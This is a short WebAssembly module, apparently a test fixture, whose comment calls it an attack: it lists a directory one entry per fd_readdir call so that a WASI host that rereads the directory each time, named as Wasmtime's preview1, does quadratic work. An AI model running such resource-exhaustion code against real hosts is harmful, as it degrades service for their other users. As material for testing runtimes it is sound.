;; Attack: list a large directory one entry per fd_readdir call (cookie 0, 1, 2, ... with a
;; buffer that holds one entry), so that a host which reads the whole directory on every call
;; (as Wasmtime's preview1 does) does quadratic work. Returns how many calls it made.
(module
  (import "wasi_snapshot_preview1" "fd_readdir"
    (func $fd_readdir (param i32 i32 i32 i64 i32) (result i32)))
  (memory (export "memory") 1)
  (func (export "list") (param $fd i32) (result i32)
    (local $cookie i64)
    (local $calls i32)
    (loop $next
      (if (call $fd_readdir (local.get $fd) (i32.const 0) (i32.const 40) (local.get $cookie) (i32.const 64))
        (then unreachable))
      (local.set $calls (i32.add (local.get $calls) (i32.const 1)))
      (local.set $cookie (i64.add (local.get $cookie) (i64.const 1)))
      ;; Until a call returns nothing.
      (br_if $next (i32.load (i32.const 64))))
    (local.get $calls)))
